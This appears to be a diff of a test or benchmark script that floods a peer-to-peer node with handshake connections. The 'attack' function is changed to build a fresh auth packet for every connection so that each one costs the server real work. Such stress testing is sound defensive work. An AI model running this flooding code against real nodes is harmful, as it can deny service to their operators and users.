@@ -58,14 +58,14 @@ async function measure(connections, slots, atOnce) {
   if (lost.length > 0 || open > 0) process.exitCode = 1;
 }
 
-/** A copy of an auth costs the server as much as a new one. */
+/** Each connection has an auth of its own: a copy would cost the server nothing. */
 async function attack(enode, connections, atOnce) {
   const { host, tcpPort } = parseEnode(enode);
-  const { packet } = await authFor(enode);
   const times = [];
   let acks = 0;
   let left = connections;
   const one = async (number) => {
+    const { packet } = await authFor(enode);
     const socket = connect({ host, port: tcpPort, localAddress: `127.0.${number % 200}.1` });
     const begun = performance.now();
     const patience = setTimeout(() => socket.destroy(), PATIENCE_MS);
